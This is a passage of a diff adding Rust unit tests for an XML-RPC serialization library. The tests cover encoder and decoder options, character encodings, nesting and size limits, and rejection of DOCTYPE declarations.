+            r#"<?xml version="1.0" encoding="utf-8"?><methodCall xmlns:ex="http://ws.apache.org/xmlrpc/namespaces/extensions"><methodName>test</methodName><params><param><value><ex:i8>7</ex:i8></value></param><param><value><ex:nil/></value></param><param><value><int>3</int></value></param></params></methodCall>"#
+        );
+        let (name, params) = request_from_str_with(&body, &options).unwrap();
+        assert_eq!(name, "test");
+        assert_eq!(params, vec![Value::Int64(7), Value::Nil, Value::Int(3)]);
+
+        let body = value_to_string_with((1i8, 2i16, 1.5f32), &encoder).unwrap();
+        let value: (i8, i16, f32) = value_from_str_with(&body, &options).unwrap();
+        assert_eq!(value, (1, 2, 1.5));
+    }
+
+    #[test]
+    fn test_encoder_options() {
+        let params = || {
+            vec![
+                Value::Int(1),
+                Value::Int64(2),
+                Value::String("a".to_string()),
+                Value::String(String::new()),
+            ]
+            .into_iter()
+        };
+
+        assert_eq!(
+            request_to_string_with("m", params(), &EncoderOptions::new()).unwrap(),
+            request_to_string("m", params()).unwrap()
+        );
+
+        let options = EncoderOptions::new()
+            .int_tag(IntTag::I4)
+            .decl_encoding(false)
+            .self_closing_empty_strings(true);
+        let body = request_to_string_with("m", params(), &options).unwrap();
+        assert_eq!(
+            body,
+            r#"<?xml version="1.0"?><methodCall><methodName>m</methodName><params><param><value><i4>1</i4></value></param><param><value><i4>2</i4></value></param><param><value><string>a</string></value></param><param><value><string/></value></param></params></methodCall>"#
+        );
+        assert_eq!(request_from_str(&body).unwrap().1, {
+            let mut values: Vec<Value> = params().collect();
+            values[1] = Value::Int(2);
+            values
+        });
+
+        let options = EncoderOptions::new().string_tags(false).xml_decl(false);
+        let body = response_to_string_with(params(), &options).unwrap();
+        assert_eq!(
+            body,
+            "<methodResponse><params><param><value><int>1</int></value></param><param><value><int>2</int></value></param><param><value>a</value></param><param><value></value></param></params></methodResponse>"
+        );
+
+        let options = options.self_closing_empty_strings(true).encoding("UTF-8");
+        assert_eq!(value_to_string_with("", &options).unwrap(), "<value/>");
+        assert_eq!(value_from_str::<String>("<value/>").unwrap(), "");
+        assert_eq!(
+            value_to_string_with("a&b", &options).unwrap(),
+            "<value>a&amp;b</value>"
+        );
+        assert_eq!(
+            response_to_string_with(params(), &options.xml_decl(true))
+                .unwrap()
+                .split("?>")
+                .next(),
+            Some(r#"<?xml version="1.0" encoding="UTF-8""#)
+        );
+
+        let options = EncoderOptions::new().allow_nil(false);
+        assert!(value_to_string_with(Value::Nil, &options).is_err());
+        assert!(value_to_string_with(None::<i32>, &options).is_err());
+        assert!(request_to_string_with("m", vec![Value::Nil].into_iter(), &options).is_err());
+        assert_eq!(
+            value_to_string_with(Some(1), &options).unwrap(),
+            "<value><int>1</int></value>"
+        );
+    }
+
+    #[test]
+    fn test_indent() {
+        #[derive(Debug, PartialEq, serde::Serialize, serde::Deserialize)]
+        struct Entry {
+            name: String,
+            tags: Vec<String>,
+            note: Option<String>,
+        }
+
+        let entry = Entry {
+            name: "  padded\n text ".to_string(),
+            tags: vec![String::new(), "x".to_string()],
+            note: None,
+        };
+
+        let options = EncoderOptions::new().indent(b'\t', 1);
+        let body =
+            request_to_string_with("m", vec![to_value(&entry).unwrap()].into_iter(), &options)
+                .unwrap();
+        assert_eq!(
+            body,
+            "<?xml version=\"1.0\" encoding=\"utf-8\"?>
+<methodCall>
+\t<methodName>m</methodName>
+\t<params>
+\t\t<param>
+\t\t\t<value>
+\t\t\t\t<struct>
+\t\t\t\t\t<member>
+\t\t\t\t\t\t<name>name</name>
+\t\t\t\t\t\t<value>
+\t\t\t\t\t\t\t<string>  padded
+ text </string>
+\t\t\t\t\t\t</value>
+\t\t\t\t\t</member>
+\t\t\t\t\t<member>
+\t\t\t\t\t\t<name>note</name>
+\t\t\t\t\t\t<value>
+\t\t\t\t\t\t\t<nil/>
+\t\t\t\t\t\t</value>
+\t\t\t\t\t</member>
+\t\t\t\t\t<member>
+\t\t\t\t\t\t<name>tags</name>
+\t\t\t\t\t\t<value>
+\t\t\t\t\t\t\t<array>
+\t\t\t\t\t\t\t\t<data>
+\t\t\t\t\t\t\t\t\t<value>
+\t\t\t\t\t\t\t\t\t\t<string></string>
+\t\t\t\t\t\t\t\t\t</value>
+\t\t\t\t\t\t\t\t\t<value>
+\t\t\t\t\t\t\t\t\t\t<string>x</string>
+\t\t\t\t\t\t\t\t\t</value>
+\t\t\t\t\t\t\t\t</data>
+\t\t\t\t\t\t\t</array>
+\t\t\t\t\t\t</value>
+\t\t\t\t\t</member>
+\t\t\t\t</struct>
+\t\t\t</value>
+\t\t</param>
+\t</params>
+</methodCall>"
+        );
+        let (_, params) = request_from_str(&body).unwrap();
+        assert_eq!(from_values::<(Entry,)>(params).unwrap().0, entry);
+
+        // Bare strings keep their exact content too.
+        let options = EncoderOptions::new().indent(b' ', 2).string_tags(false);
+        let body = response_to_string_with(
+            vec![
+                Value::String(" a ".to_string()),
+                Value::String(String::new()),
+            ]
+            .into_iter(),
+            &options,
+        )
+        .unwrap();
+        assert!(body.contains("<value> a </value>"));
+        assert!(body.contains("<value></value>"));
+        assert_eq!(
+            response_from_str::<String>(&body).unwrap(),
+            " a ".to_string()
+        );
+    }
+
+    #[test]
+    fn test_lenient() {
+        let cases: &[(&str, DecoderOptions, Value)] = &[
+            (
+                "<value><boolean>TRUE</boolean></value>",
+                DecoderOptions::new().boolean_words(true),
+                Value::Bool(true),
+            ),
+            (
+                "<value><boolean>false</boolean></value>",
+                DecoderOptions::new().boolean_words(true),
+                Value::Bool(false),
+            ),
+            (
+                "<value><double>-1,5</double></value>",
+                DecoderOptions::new().comma_decimals(true),
+                Value::Double(-1.5),
+            ),
+            (
+                "<VALUE><Array><DATA><value><I4>1</I4></value></DATA></Array></VALUE>",
+                DecoderOptions::new().ignore_tag_case(true),
+                Value::Array(vec![Value::Int(1)]),
+            ),
+            (
+                "<value><struct><member><value><int>1</int></value><name>a</name></member></struct></value>",
+                DecoderOptions::new().name_after_value(true),
+                Value::Struct(vec![("a".to_string(), Value::Int(1))].into_iter().collect()),
+            ),
+        ];
+
+        for (body, options, expected) in cases {
+            // Each deviation is rejected by default, and accepted both on its
+            // own and as part of the lenient options.
+            assert!(value_from_str::<Value>(body).is_err(), "{}", body);
+            assert_eq!(
+                &value_from_str_with::<Value>(body, options).unwrap(),
+                expected
+            );
+            assert_eq!(
+                &value_from_str_with::<Value>(body, &DecoderOptions::lenient()).unwrap(),
+                expected
+            );
+        }
+
+        // Only the matching deviation is accepted.
+        let options = DecoderOptions::new().boolean_words(true);
+        assert!(
+            value_from_str_with::<f64>("<value><double>1,5</double></value>", &options).is_err()
+        );
+        assert!(value_from_str_with::<f64>(
+            "<value><double>1,5</double></value>",
+            &DecoderOptions::lenient()
+        )
+        .is_ok());
+        assert!(value_from_str_with::<f64>(
+            "<value><double>1.000,5</double></value>",
+            &DecoderOptions::lenient()
+        )
+        .is_err());
+
+        #[derive(Debug, PartialEq, serde::Deserialize)]
+        struct Status {
+            code: i32,
+            message: String,
+            ok: bool,
+        }
+
+        let body = r#"<?xml version="1.0"?>
+<METHODRESPONSE>
+  <PARAMS>
+    <PARAM>
+      <VALUE>
+        <STRUCT>
+          <MEMBER>
+            <VALUE><I4> 200 </I4></VALUE>
+            <NAME>code</NAME>
+          </MEMBER>
+          <MEMBER>
+            <NAME>message</NAME>
+            <VALUE>OK</VALUE>
+          </MEMBER>
+          <MEMBER>
+            <VALUE><BOOLEAN>True</BOOLEAN></VALUE>
+            <NAME>ok</NAME>
+          </MEMBER>
+        </STRUCT>
+      </VALUE>
+    </PARAM>
+  </PARAMS>
+</METHODRESPONSE>"#;
+        let expected = Status {
+            code: 200,
+            message: "OK".to_string(),
+            ok: true,
+        };
+
+        assert!(response_from_str::<Status>(body).is_err());
+        assert_eq!(
+            response_from_str_with::<Status>(body, &DecoderOptions::lenient()).unwrap(),
+            expected
+        );
+
+        let mut de = Deserializer::new(de::IoReader::with_options(
+            quick_xml::Reader::from_reader(body.as_bytes()),
+            DecoderOptions::lenient(),
+        ));
+        assert_eq!(response_from_read::<_, Status>(&mut de).unwrap(), expected);
+    }
+
+    #[test]
+    fn test_strict() {
+        let strict = DecoderOptions::strict();
+
+        // Valid documents are accepted as usual.
+        let request = r#"<?xml version="1.0"?>
+<methodCall>
+  <methodName>examples.getStateName</methodName>
+  <params>
+    <param><value><i4>41</i4></value></param>
+    <param><value><array><data><value>a</value><value><double>-1.5</double></value></data></array></value></param>
+    <param><value><struct><member><name>a</name><value><nil/></value></member></struct></value></param>
+    <param><value><dateTime.iso8601>19980717T14:08:55</dateTime.iso8601></value></param>
+  </params>
+</methodCall>
+"#;
+        let (name, params) = request_from_str_with(request, &strict).unwrap();
+        assert_eq!(name, "examples.getStateName");
+        assert_eq!(params.len(), 4);
+        let call = MethodCall::parse_with(request, &strict).unwrap();
+        let (a, b, _, _): (i32, (String, f64), Value, Value) = call.params().unwrap();
+        assert_eq!((a, b), (41, ("a".to_string(), -1.5)));
+
+        let response = r#"<?xml version="1.0"?>
+<methodResponse><params><param><value><string>South Dakota</string></value></param></params></methodResponse>"#;
+        assert_eq!(
+            response_from_str_with::<String>(response, &strict).unwrap(),
+            "South Dakota"
+        );
+
+        let fault = r#"<methodResponse><fault><value><struct>
+<member><name>faultCode</name><value><int>4</int></value></member>
+<member><name>faultString</name><value><string>Too many parameters.</string></value></member>
+</struct></value></fault></methodResponse>"#;
+        assert!(matches!(
+            response_from_str_with::<String>(fault, &strict),
+            Err(Error::Fault(Fault { fault_code: 4, .. }))
+        ));
+
+        let cases: &[(&str, &str)] = &[
+            (
+                "<value><int>1</int></value><value><int>2</int></value>",
+                "unexpected <value> after the document element",
+            ),
+            (
+                "<value><int>1</int></value>junk",
+                "unexpected text \"junk\" after the document element",
+            ),
+            (
+                "<value><int>1</int><junk/></value>",
+                "unexpected <junk> in <value>",
+            ),
+            (
+                "<value><nil>x</nil></value>",
+                "unexpected text \"x\" in <nil>",
+            ),
+            (
+                "<value><int>1</int></value><?xml version=\"1.0\"?>",
+                "the XML declaration must be at the start of the document",
+            ),
+            (
+                "<value type=\"int\"><int>1</int></value>",
+                "unexpected attribute type on <value>",
+            ),
+            (
+                "<value><int>4294967296</int></value>",
+                "<int> value 4294967296 does not fit in 32 bits",
+            ),
+            (
+                "<value><double>1e5</double></value>",
+                "<double> value \"1e5\" is not a plain decimal number",
+            ),
+            (
+                "<value><double>NaN</double></value>",
+                "<double> value \"NaN\" is not a plain decimal number",
+            ),
+            (
+                "<value><dateTime.iso8601>yesterday</dateTime.iso8601></value>",
+                "<dateTime.iso8601> value \"yesterday\" is not a valid date and time",
+            ),
+        ];
+        for (body, problem) in cases {
+            // These are all accepted by default.
+            assert!(
+                value_from_str::<serde::de::IgnoredAny>(body).is_ok(),
+                "{}",
+                body
+            );
+            let err = value_from_str_with::<Value>(body, &strict).unwrap_err();
+            assert_eq!(
+                err.to_string(),
+                format!("decoding error: invalid XML-RPC: {}", problem)
+            );
+        }
+
+        let err =
+            value_from_str_with::<Value>("<!DOCTYPE value><value><int>1</int></value>", &strict)
+                .unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "decoding error: invalid XML-RPC: document type declarations are not allowed"
+        );
+
+        let cases: &[(&str, &str)] = &[
+            (
+                "<methodResponse><params><param><value>a</value></param></params></methodResponse><methodResponse/>",
+                "unexpected <methodResponse> after the document element",
+            ),
+            (
+                "<methodResponse><params><param><value>a</value></param><param><value>b</value></param></params></methodResponse>",
+                "unexpected <param> in <params>",
+            ),
+            (
+                "<methodResponse><params><param><value>a</value><extra/></param></params></methodResponse>",
+                "unexpected <extra> in <param>",
+            ),
+            (
+                "<methodResponse><params><param><value>a</value></param></params><extra/></methodResponse>",
+                "unexpected <extra> in <methodResponse>",
+            ),
+            (
+                "<methodResponse><fault><value><struct><member><name>faultCode</name><value><int>4</int></value></member><member><name>faultString</name><value>oops</value></member><member><name>detail</name><value>x</value></member></struct></value></fault></methodResponse>",
+                "a <fault> must be a struct of an <int> faultCode and a string faultString",
+            ),
+        ];
+        for (body, problem) in cases {
+            assert!(
+                matches!(
+                    response_from_str::<String>(body),
+                    Ok(_) | Err(Error::Fault(_))
+                ),
+                "{}",
+                body
+            );
+            let err = response_from_str_with::<String>(body, &strict).unwrap_err();
+            assert_eq!(
+                err.to_string(),
+                format!("decoding error: invalid XML-RPC: {}", problem)
+            );
+        }
+
+        let cases: &[(&str, &str)] = &[
+            (
+                "<methodCall><methodName>get state</methodName><params/></methodCall>",
+                "invalid method name \"get state\"",
+            ),
+            (
+                "<methodCall><methodName>m</methodName><params/><extra/></methodCall>",
+                "unexpected <extra> in <methodCall>",
+            ),
+            (
+                "<methodCall><methodName>m</methodName><params/></methodCall>trailing",
+                "unexpected text \"trailing\" after the document element",
+            ),
+        ];
+        for (body, problem) in cases {
+            assert!(request_from_str(body).is_ok(), "{}", body);
+            let err = request_from_str_with(body, &strict).unwrap_err();
+            assert_eq!(
+                err.to_string(),
+                format!("decoding error: invalid XML-RPC: {}", problem)
+            );
+        }
+
+        // Arrays can't have more elements than the type they are decoded into.
+        let body = "<value><array><data><value><int>1</int></value><value><int>2</int></value></data></array></value>";
+        assert_eq!(value_from_str::<(i32,)>(body).unwrap(), (1,));
+        assert!(value_from_str_with::<(i32,)>(body, &strict).is_err());
+        assert_eq!(
+            value_from_str_with::<(i32, i32)>(body, &strict).unwrap(),
+            (1, 2)
+        );
+
+        // The <params> element is optional.
+        let body = "<methodCall><methodName>ping</methodName></methodCall>";
+        assert_eq!(
+            request_from_str_with(body, &strict).unwrap(),
+            ("ping".to_string(), vec![])
+        );
+        let call = MethodCall::parse_with(body, &strict).unwrap();
+        call.params::<()>().unwrap();
+
+        // Stray content in structs and arrays is never accepted, and is
+        // reported the same way in either mode.
+        let cases: &[(&str, &str)] = &[
+            (
+                "<value><struct><extra/></struct></value>",
+                "unexpected <extra> in <struct>",
+            ),
+            (
+                "<value><struct>junk</struct></value>",
+                "unexpected text \"junk\" in <struct>",
+            ),
+            (
+                "<value><struct><member><extra/></member></struct></value>",
+                "unexpected <extra> in <member>",
+            ),
+            (
+                "<value><struct><member><name>a</name><extra/></member></struct></value>",
+                "unexpected <extra> in <member>",
+            ),
+            (
+                "<value><array>junk<data/></array></value>",
+                "unexpected text \"junk\" in <array>",
+            ),
+            (
+                "<value><array><extra/></array></value>",
+                "unexpected <extra> in <array>",
+            ),
+            (
+                "<value><array><data><extra/></data></array></value>",
+                "unexpected <extra> in <data>",
+            ),
+        ];
+        for (body, problem) in cases {
+            for options in &[DecoderOptions::new(), strict.clone()] {
+                let err = value_from_str_with::<Value>(body, options).unwrap_err();
+                assert_eq!(
+                    err.to_string(),
+                    format!("decoding error: invalid XML-RPC: {}", problem)
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn test_from_slice() {
+        let latin1 = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>
+<methodCall>
+  <methodName>caf\xe9</methodName>
+  <params>
+    <param><value>\xc0 bient\xf4t</value></param>
+    <param><value><struct><member><name>\xfc</name><value><string>&lt;\xdf&gt;</string></value></member></struct></value></param>
+  </params>
+</methodCall>";
+        let (name, params) = request_from_slice(latin1).unwrap();
+        assert_eq!(name, "caf\u{e9}");
+        assert_eq!(
+            params,
+            vec![
+                Value::String("\u{c0} bient\u{f4}t".to_string()),
+                Value::Struct(
+                    vec![("\u{fc}".to_string(), Value::String("<\u{df}>".to_string()))]
+                        .into_iter()
+                        .collect()
+                ),
+            ]
+        );
+
+        // The same body is decoded as it is read from an io source as well.
+        let (name, _) = request_from_reader(&latin1[..]).unwrap();
+        assert_eq!(name, "caf\u{e9}");
+
+        let windows_1252 = b"<?xml version=\"1.0\" encoding=\"windows-1252\"?><methodResponse><params><param><value>\x80 \x93quoted\x94</value></param></params></methodResponse>";
+        assert_eq!(
+            response_from_slice::<String>(windows_1252).unwrap(),
+            "\u{20ac} \u{201c}quoted\u{201d}"
+        );
+        assert_eq!(
+            response_params_from_slice::<(String,)>(windows_1252)
+                .unwrap()
+                .0,
+            "\u{20ac} \u{201c}quoted\u{201d}"
+        );
+
+        // UTF-8 is the default, with or without a byte order mark, and can be
+        // borrowed from.
+        let utf8 = "<value><string>caf\u{e9}</string></value>";
+        assert_eq!(
+            value_from_slice::<&str>(utf8.as_bytes()).unwrap(),
+            "caf\u{e9}"
+        );
+        let mut with_bom = b"\xEF\xBB\xBF".to_vec();
+        with_bom.extend_from_slice(utf8.as_bytes());
+        assert_eq!(value_from_slice::<String>(&with_bom).unwrap(), "caf\u{e9}");
+
+        // Invalid UTF-8 is an error rather than being replaced.
+        assert!(value_from_slice::<String>(b"<value>caf\xe9</value>").is_err());
+
+        // Encodings which aren't a superset of ASCII can't be parsed.
+        let utf16: Vec<u8> = b"\xFF\xFE"
+            .iter()
+            .copied()
+            .chain(
+                "<value>x</value>"
+                    .encode_utf16()
+                    .flat_map(|c| c.to_le_bytes()),
+            )
+            .collect();
+        let err = value_from_slice::<String>(&utf16).unwrap_err();
+        assert!(matches!(
+            err,
+            Error::DecodingError(error::DecodingError::UnsupportedEncoding(_))
+        ));
+    }
+
+    #[test]
+    fn test_output_encoding() {
+        let params = || vec![Value::String("\u{20ac}5 caf\u{e9} \u{65e5}".to_string())].into_iter();
+
+        let mut body = Vec::new();
+        let options = EncoderOptions::new().encoding("windows-1252");
+        request_to_writer_with(&mut body, "pay", params(), &options).unwrap();
+        assert_eq!(
+            body,
+            &b"<?xml version=\"1.0\" encoding=\"windows-1252\"?><methodCall><methodName>pay</methodName><params><param><value><string>\x805 caf\xe9 &#26085;</string></value></param></params></methodCall>"[..]
+        );
+        let (name, values) = request_from_slice(&body).unwrap();
+        assert_eq!(name, "pay");
+        assert_eq!(values, params().collect::<Vec<_>>());
+
+        // ISO-8859-1 is not treated as Windows-1252.
+        let mut body = Vec::new();
+        let options = EncoderOptions::new().encoding("iso-8859-1");
+        response_to_writer_with(&mut body, params(), &options).unwrap();
+        assert_eq!(
+            body,
+            &b"<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><methodResponse><params><param><value><string>&#8364;5 caf\xe9 &#26085;</string></value></param></params></methodResponse>"[..]
+        );
+
+        let mut body = Vec::new();
+        let options = EncoderOptions::new().encoding("Shift_JIS");
+        response_to_writer_with(&mut body, params(), &options).unwrap();
+        assert!(body.starts_with(b"<?xml version=\"1.0\" encoding=\"Shift_JIS\"?>"));
+        assert_eq!(
+            response_from_slice::<String>(&body).unwrap(),
+            "\u{20ac}5 caf\u{e9} \u{65e5}"
+        );
+
+        // The typed and fault writers take the same options.
+        let options = EncoderOptions::new().encoding("ISO-8859-1");
+        let mut body = Vec::new();
+        request_to_writer_typed_with(&mut body, "pay", &("caf\u{e9}",), &options).unwrap();
+        assert_eq!(
+            body,
+            &b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><methodCall><methodName>pay</methodName><params><param><value><string>caf\xe9</string></value></param></params></methodCall>"[..]
+        );
+        let mut body = Vec::new();
+        response_to_writer_typed_with(&mut body, "caf\u{e9}", &options).unwrap();
+        assert_eq!(response_from_slice::<String>(&body).unwrap(), "caf\u{e9}");
+        let fault = Fault {
+            fault_code: 1,
+            fault_string: "caf\u{e9}".to_string(),
+        };
+        let mut body = Vec::new();
+        fault_to_writer_with(&mut body, &fault, &options).unwrap();
+        assert!(body.windows(4).any(|w| w == b"caf\xe9"));
+        assert!(matches!(
+            response_from_slice::<String>(&body),
+            Err(Error::Fault(f)) if f == fault
+        ));
+        assert!(matches!(
+            fault_to_string_with(&fault, &options),
+            Err(Error::EncodingError(error::EncodingError::NotUtf8(_)))
+        ));
+        assert!(request_to_string_typed_with("pay", &(1,), &options).is_err());
+        assert!(response_to_string_typed_with(&1, &options).is_err());
+
+        // UTF-8 can still be returned as a string.
+        let options = EncoderOptions::new().encoding("UTF-8");
+        assert_eq!(
+            request_to_string_with("pay", params(), &options).unwrap(),
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><methodCall><methodName>pay</methodName><params><param><value><string>\u{20ac}5 caf\u{e9} \u{65e5}</string></value></param></params></methodCall>"
+        );
+
+        let options = EncoderOptions::new().encoding("latin1");
+        assert!(matches!(
+            request_to_string_with("pay", params(), &options),
+            Err(Error::EncodingError(error::EncodingError::NotUtf8(_)))
+        ));
+        assert!(matches!(
+            value_to_string_with("caf\u{e9}", &options),
+            Err(Error::EncodingError(error::EncodingError::NotUtf8(_)))
+        ));
+
+        // Standalone values have no declaration, so they are always UTF-8.
+        assert!(matches!(
+            value_to_writer_with(Vec::new(), "caf\u{e9}", &options),
+            Err(Error::EncodingError(
+                error::EncodingError::UndeclaredEncoding(_)
+            ))
+        ));
+        let options = EncoderOptions::new().encoding("utf-8").string_tags(false);
+        let mut body = Vec::new();
+        value_to_writer_with(&mut body, "caf\u{e9}", &options).unwrap();
+        assert_eq!(body, "<value>caf\u{e9}</value>".as_bytes());
+        for label in &["UTF-16LE", "not-an-encoding"] {
+            let options = EncoderOptions::new().encoding(label);
+            assert!(matches!(
+                request_to_writer_with(Vec::new(), "pay", params(), &options),
+                Err(Error::EncodingError(
+                    error::EncodingError::UnsupportedEncoding(_)
+                ))
+            ));
+        }
+
+        // Output which isn't UTF-8 can't go without a label, as it would be
+        // read as UTF-8.
+        let options = EncoderOptions::new().encoding("ISO-8859-1");
+        for options in &[
+            options.clone().decl_encoding(false),
+            options.xml_decl(false),
+        ] {
+            assert!(matches!(
+                request_to_writer_with(Vec::new(), "pay", params(), options),
+                Err(Error::EncodingError(
+                    error::EncodingError::UndeclaredEncoding(_)
+                ))
+            ));
+            assert!(matches!(
+                fault_to_writer_with(Vec::new(), &fault, options),
+                Err(Error::EncodingError(
+                    error::EncodingError::UndeclaredEncoding(_)
+                ))
+            ));
+        }
+        let options = EncoderOptions::new().encoding("utf-8").decl_encoding(false);
+        let mut body = Vec::new();
+        response_to_writer_with(&mut body, params(), &options).unwrap();
+        assert!(body.starts_with(b"<?xml version=\"1.0\"?><methodResponse>"));
+    }
+
+    #[test]
+    fn test_limits() {
+        fn limit_exceeded<T: std::fmt::Debug>(result: Result<T>) -> (&'static str, usize) {
+            match result {
+                Err(Error::DecodingError(error::DecodingError::LimitExceeded(what, max))) => {
+                    (what, max)
+                }
+                other => panic!("expected a limit to be exceeded, got {:?}", other),
+            }
+        }
+
+        let request = r#"<?xml version="1.0"?>
+<methodCall>
+  <methodName>store</methodName>
+  <params>
+    <param><value><string>hello</string></value></param>
+    <param><value><array><data><value><int>1</int></value><value><int>2</int></value></data></array></value></param>
+    <param><value><struct><member><name>a</name><value>1</value></member><member><name>b</name><value>2</value></member></struct></value></param>
+    <param><value><base64>AAECAw==</base64></value></param>
+  </params>
+</methodCall>"#;
+
+        // Exactly at the limits is fine.
+        let limits = Limits::new()
+            .max_depth(1)
+            .max_params(4)
+            .max_members(2)
+            .max_elements(2)
+            .max_string_bytes(5)
+            .max_base64_bytes(4);
+        let options = DecoderOptions::new().limits(limits.clone());
+        let (_, params) = request_from_str_with(request, &options).unwrap();
+        assert_eq!(params.len(), 4);
+
+        // The same params in a response.
+        let response = request
+            .replace(
+                "<methodCall>\n  <methodName>store</methodName>",
+                "<methodResponse>",
+            )
+            .replace("</methodCall>", "</methodResponse>");
+        let params: Vec<Value> = response_params_from_str_with(&response, &options).unwrap();
+        assert_eq!(params.len(), 4);
+
+        let cases = vec![
+            (limits.clone().max_params(3), ("params", 3)),
+            (limits.clone().max_elements(1), ("array elements", 1)),
+            (limits.clone().max_members(1), ("struct members", 1)),
+            (limits.clone().max_string_bytes(4), ("bytes in a string", 4)),
+            (
+                limits.clone().max_base64_bytes(3),
+                ("bytes of base64 data", 3),
+            ),
+            (
+                limits.clone().max_depth(0),
+                ("levels of nested arrays and structs", 0),
+            ),
+        ];
+        for (limits, expected) in cases {
+            let options = DecoderOptions::new().limits(limits);
+            assert_eq!(
+                limit_exceeded(request_from_str_with(request, &options)),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(
+                    MethodCall::parse_with(request, &options)
+                        .and_then(|c| c.params::<Vec<Value>>())
+                ),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(request_from_slice_with(request.as_bytes(), &options)),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(request_from_reader_with(request.as_bytes(), &options)),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(response_params_from_str_with::<Vec<Value>>(
+                    &response, &options
+                )),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(response_params_from_slice_with::<Vec<Value>>(
+                    response.as_bytes(),
+                    &options
+                )),
+                expected
+            );
+            assert_eq!(
+                limit_exceeded(response_params_from_reader_with::<_, Vec<Value>>(
+                    response.as_bytes(),
+                    &options
+                )),
+                expected
+            );
+        }
+
+        // Base64 data is checked before it is decoded, so oversized data is
+        // rejected even if it isn't valid.
+        let options = DecoderOptions::new().limits(Limits::new().max_base64_bytes(3));
+        assert_eq!(
+            limit_exceeded(value_from_str_with::<Value>(
+                "<value><base64>!!!!\n!!!!</base64></value>",
+                &options
+            )),
+            ("bytes of base64 data", 3)
+        );
+        for (text, len) in &[("AAEC", 3), ("AAE=", 2), ("AA==", 1), ("", 0)] {
+            let body = format!("<value><base64>{}</base64></value>", text);
+            let val: Value = value_from_str_with(&body, &options).unwrap();
+            assert_eq!(val.as_bytes().map(<[u8]>::len), Some(*len), "{}", text);
+        }
+
+        // Method names, member names and untyped values count as strings.
+        let options = DecoderOptions::new().limits(Limits::new().max_string_bytes(4));
+        assert_eq!(
+            limit_exceeded(request_from_str_with(request, &options)),
+            ("bytes in a string", 4)
+        );
+        assert_eq!(
+            limit_exceeded(value_from_str_with::<Value>(
+                "<value><struct><member><name>abcde</name><value/></member></struct></value>",
+                &options
+            )),
+            ("bytes in a string", 4)
+        );
+        assert_eq!(
+            limit_exceeded(value_from_str_with::<String>(
+                "<value>abcde</value>",
+                &options
+            )),
+            ("bytes in a string", 4)
+        );
+
+        // Deeply nested input is rejected by default rather than overflowing
+        // the stack, no matter which type it is decoded into.
+        let depth = 100_000;
+        let nested = format!(
+            "{}{}",
+            "<value><array><data>".repeat(depth),
+            "</data></array></value>".repeat(depth)
+        );
+        let limit = ("levels of nested arrays and structs", 64);
+        assert_eq!(limit_exceeded(value_from_str::<Value>(&nested)), limit);
+        assert_eq!(
+            limit_exceeded(value_from_str::<serde::de::IgnoredAny>(&nested)),
+            limit
+        );
+        assert_eq!(
+            limit_exceeded(value_from_reader::<_, Value>(nested.as_bytes())),
+            limit
+        );
+        let structs = format!(
+            "{}{}",
+            "<value><struct><member><name>a</name>".repeat(depth),
+            "</member></struct></value>".repeat(depth)
+        );
+        assert_eq!(limit_exceeded(value_from_str::<Value>(&structs)), limit);
+
+        // Values nested up to the default limit can still be decoded.
+        let nested = format!(
+            "{}{}",
+            "<value><array><data>".repeat(64),
+            "</data></array></value>".repeat(64)
+        );
+        value_from_str::<Value>(&nested).unwrap();
+        let structs = format!(
+            "{}<value/>{}",
+            "<value><struct><member><name>a</name>".repeat(64),
+            "</member></struct></value>".repeat(64)
+        );
+        value_from_str::<Value>(&structs).unwrap();
+        value_from_str_with::<Value>(&structs, &DecoderOptions::lenient()).unwrap();
+    }
+
+    #[test]
+    fn test_doctype_and_entities() {
+        fn request(doctype: &str, text: &str) -> String {
+            format!(
+                "<?xml version=\"1.0\"?>{}<methodCall><methodName>echo</methodName><params><param><value><string>{}</string></value></param></params></methodCall>",
+                doctype, text
+            )
+        }
+        fn response(doctype: &str, text: &str) -> String {
+            format!(
+                "<?xml version=\"1.0\"?>{}<methodResponse><params><param><value><string>{}</string></value></param></params></methodResponse>",
+                doctype, text
+            )
+        }
+        fn value(doctype: &str, text: &str) -> String {
+            format!("{}<value><string>{}</string></value>", doctype, text)
+        }
+
+        type Body = fn(&str, &str) -> String;
+        type Parser = Box<dyn Fn(&str, &DecoderOptions) -> Result<()>>;
+        let parsers: Vec<(&str, Body, Parser)> = vec![
+            (
+                "request_from_str",
+                request,
+                Box::new(|b, _| request_from_str(b).map(drop)),
+            ),
+            (
+                "request_from_str_with",
+                request,
+                Box::new(|b, o| request_from_str_with(b, o).map(drop)),
+            ),
+            (
+                "request_from_slice",
+                request,
+                Box::new(|b, _| request_from_slice(b.as_bytes()).map(drop)),
+            ),
+            (
+                "request_from_slice_with",
+                request,
+                Box::new(|b, o| request_from_slice_with(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "request_from_reader",
+                request,
+                Box::new(|b, _| request_from_reader(b.as_bytes()).map(drop)),
+            ),
+            (
+                "request_from_reader_with",
+                request,
+                Box::new(|b, o| request_from_reader_with(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "MethodCall::parse",
+                request,
+                Box::new(|b, _| MethodCall::parse(b)?.params::<Vec<Value>>().map(drop)),
+            ),
+            (
+                "MethodCall::parse_with",
+                request,
+                Box::new(|b, o| {
+                    MethodCall::parse_with(b, o)?
+                        .params::<Vec<Value>>()
+                        .map(drop)
+                }),
+            ),
+            (
+                "response_from_str",
+                response,
+                Box::new(|b, _| response_from_str::<String>(b).map(drop)),
+            ),
+            (
+                "response_from_str_with",
+                response,
+                Box::new(|b, o| response_from_str_with::<String>(b, o).map(drop)),
+            ),
+            (
+                "response_from_slice",
+                response,
+                Box::new(|b, _| response_from_slice::<String>(b.as_bytes()).map(drop)),
+            ),
+            (
+                "response_from_slice_with",
+                response,
+                Box::new(|b, o| response_from_slice_with::<String>(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "response_from_reader",
+                response,
+                Box::new(|b, _| response_from_reader::<_, String>(b.as_bytes()).map(drop)),
+            ),
+            (
+                "response_from_reader_with",
+                response,
